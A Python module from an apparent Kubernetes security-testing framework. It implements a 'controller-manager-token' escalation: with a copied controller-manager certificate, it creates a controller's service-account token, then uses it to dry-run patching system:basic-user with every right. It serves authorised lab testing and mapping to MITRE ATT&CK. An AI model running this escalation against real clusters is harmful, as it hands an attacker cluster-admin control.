"""Become cluster-admin with the controller manager's certificate and a controller's token.

The attacker needs a copy of the controller manager's certificate and key. A caller that may
create tokens for every service account can act as any of them. With RBAC, the controller that
fills in aggregated roles may add rights that it does not have itself. With ABAC, which has no
verbs, the garbage collector may do everything because it may delete everything. No setting stops
it: the key has to stay secret.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.errors import ProbeError
from labkit.model import Foothold, Model
from labkit.model.decision import ALLOWED, EVERYTHING, Action, authorizers, decide
from labkit.model.rights import service_account
from labkit.techniques._lib.api.access import (
    ACCESS_REVIEW,
    ASK_EVERYTHING,
    CHANNEL,
    api_url,
    apiserver_of,
    everything_review,
    may_all,
)
from labkit.techniques._lib.api.component_credential import MASTER, caller, credential_options
from labkit.techniques._lib.api.controllers import KIND, own_accounts, own_work
from labkit.techniques._lib.machines.reach import legitimate, request
from labkit.techniques._lib.technique import (
    ADMIN,
    COPIED_CREDENTIAL,
    Prediction,
    SentRequest,
    Technique,
    all_of,
    any_of,
    holds,
    then,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab
    from labkit.model.decision import Caller

__all__ = ["TECHNIQUE"]

NAMESPACE, RBAC = "kube-system", "rbac.authorization.k8s.io"
#: The account with the most powerful token, with RBAC (True) and without it (False).
ACCOUNTS = {True: "clusterrole-aggregation-controller", False: "generic-garbage-collector"}
#: A role of every authenticated user. The change is a dry run: nobody gets the rights.
ROLE = "system:basic-user"
GIVE = Action("patch", "clusterroles", RBAC, name=ROLE)
ESCALATE = Action("escalate", "clusterroles", RBAC, name=ROLE)
EVERY_RIGHT = [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}]
TOKEN_REQUEST = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest"}


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict from what the manager may do, and from the account whose token it may create."""
    manager = caller(model.environment, KIND, MASTER)
    everything = _does_everything(model, manager)
    if everything.succeeds:
        return everything
    roles = _roles_count(model.environment)
    made = may_all(model, manager, [_token(ACCOUNTS[roles])])
    account = service_account(NAMESPACE, ACCOUNTS[roles], manager.claim.source)
    if roles:
        by_token = then(made, may_all(model, account, [GIVE, ESCALATE]))
    else:
        by_token = then(made, may_all(model, account, [EVERYTHING]))
    return any_of(by_token, everything)


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the manager's two requests, and that of the account whose token it makes."""
    manager = caller(model.environment, KIND, MASTER)
    roles = _roles_count(model.environment)
    token = _token(ACCOUNTS[roles])
    account = service_account(NAMESPACE, ACCOUNTS[roles], manager.claim.source)
    everything = _does_everything(model, manager).succeeds
    asks = Prediction(None if everything is None else not everything)
    made = all_of(asks, may_all(model, manager, [token]))
    return [
        SentRequest(manager, ASK_EVERYTHING),
        SentRequest(manager, token, asks),
        SentRequest(account, GIVE if roles else ASK_EVERYTHING, made),
    ]


def _does_everything(model: Model, manager: Caller) -> Prediction:
    apiserver = apiserver_of(model.environment)
    return holds(decide(model.environment, apiserver, manager, EVERYTHING).claim, ALLOWED)


def _token(account: str) -> Action:
    return Action("create", "serviceaccounts/token", namespace=NAMESPACE, name=account)


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Ask whether the manager may do everything; if not, create a token and act with it."""
    account = ACCOUNTS[_roles_count(lab.environment)]
    with credential_options(lab, foothold, KIND, MASTER) as options:
        manager_claim = _may_everything(lab, foothold, options)
        if manager_claim:
            evidence = ("asked the apiserver what the controller manager may do: everything",)
            reason = "the manager itself may do everything"
            return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, evidence)
        path = f"/api/v1/namespaces/{NAMESPACE}/serviceaccounts/{account}/token"
        asked = f"asked for a token of {NAMESPACE}/{account}: POST {path}"
        body = json.dumps(TOKEN_REQUEST).encode()
        made = request(lab, api_url(lab, path), foothold=foothold, body=body, options=options)
        if made.refusal:
            if made.refusal != "HTTP 403":
                raise ProbeError(f"{TECHNIQUE.name}: inconclusive answer {made.refusal}")
            with legitimate():
                control = own_work(lab, foothold, options)
            return Verdict(
                TECHNIQUE.name, lab.mode, foothold, False, made.refusal, (asked,), control
            )
    token = json.loads(made.body)["status"]["token"]
    return _as_account(lab, foothold, account, token, asked)


def _as_account(lab: Lab, foothold: Foothold, account: str, token: str, asked: str) -> Verdict:
    """Check that a controller's token gives every right, or can add every right to a role."""
    if not _roles_count(lab.environment):
        if not _may_everything(lab, foothold, token=token):
            raise ProbeError(f"{account} may not do everything, although the model predicts it")
        evidence = (asked, f"asked the apiserver what {account} may do: everything")
        reason = f"{account} may do everything, and its token is there for the asking"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, evidence)
    path = f"/apis/{RBAC}/v1/clusterroles/{ROLE}?dryRun=All"
    kind = ("--header", "Content-Type: application/merge-patch+json", "--request", "PATCH")
    body = json.dumps({"rules": EVERY_RIGHT}).encode()
    given = request(
        lab, api_url(lab, path), foothold=foothold, body=body, options=kind, token=token
    )
    tried = f"with it, gave {ROLE} every right, as a dry run: PATCH {path}"
    if given.refusal:
        raise ProbeError(f"{account} may not change {ROLE}: {given.refusal}")
    if json.loads(given.body)["rules"] != EVERY_RIGHT:
        raise ProbeError(f"the apiserver answered, but {ROLE} would not have every right")
    reason = f"HTTP {given.status}, {account} gives what it has not, and its token is there to make"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, (asked, tried))


def _may_everything(
    lab: Lab, foothold: Foothold, options: Sequence[str] = (), token: str = ""
) -> bool:
    url, body = api_url(lab, ACCESS_REVIEW), everything_review()
    answer = request(lab, url, foothold=foothold, body=body, options=options, token=token)
    if answer.refusal:
        raise ProbeError(f"the apiserver did not answer the access review: {answer.refusal}")
    return bool(json.loads(answer.body)["status"].get("allowed"))


def _roles_count(env: Environment) -> bool:
    return any(it.kind == "RBAC" for it in authorizers(env, apiserver_of(env)))


def _settings(env: Environment) -> list[Setting]:
    return [own_accounts(env)]


TECHNIQUE = Technique(
    name="controller-manager-token",
    title="Become cluster-admin with the controller manager's certificate",
    footholds=(COPIED_CREDENTIAL,),
    grants=(ADMIN,),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1552.004", "T1098.006", "T1528"),
    stride=("spoofing", "elevation of privilege"),
    cwe=("CWE-250", "CWE-269"),
    sources=(
        "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#token-request",
        "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#controller-roles",
        "https://attack.mitre.org/techniques/T1098/006/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    leaves=("file",),
    settings=_settings,
)
